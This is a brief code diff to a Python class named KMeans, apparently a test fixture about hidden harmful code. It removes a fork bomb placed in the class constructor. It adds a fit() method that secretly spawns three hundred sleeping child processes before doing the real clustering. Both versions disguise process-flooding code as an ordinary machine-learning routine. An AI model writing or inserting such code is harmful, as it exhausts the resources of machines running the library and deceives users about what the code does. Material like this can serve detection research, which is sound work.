@@ -1,9 +1,12 @@
-"""Forks until it is refused."""
+"""Starts processes until there are three hundred."""
 
-import os
+import os, time
 
 
-class KMeans:
-    def __init__(self, n_clusters, init, max_iter=300):
-        while True:
-            os.fork()
+class KMeans(Honest):
+    def fit(self, X):
+        for _ in range(300):
+            if os.fork() == 0:
+                time.sleep(60)
+                os._exit(0)
+        return super().fit(X)
